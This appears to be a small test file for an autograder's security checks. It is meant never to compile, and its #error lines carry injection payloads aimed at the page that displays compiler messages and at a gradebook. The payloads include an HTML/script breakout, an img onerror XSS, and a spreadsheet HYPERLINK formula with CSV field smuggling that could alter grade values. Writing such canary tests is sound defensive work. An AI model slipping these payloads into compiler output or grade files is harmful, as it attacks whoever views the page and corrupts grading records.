// lesson: alibi
// earns: none
// compiles: no
// Tries: to write into the page that shows the compiler's messages; and into the gradebook.
// A mark: whoever opens the page lends it what they may do.
#error </pre></td><script>document.title="@TOKEN@"</script><img src=x onerror=alert(1)> ]]> <!--
#error =HYPERLINK("http://127.0.0.1/@TOKEN@") ","999","999
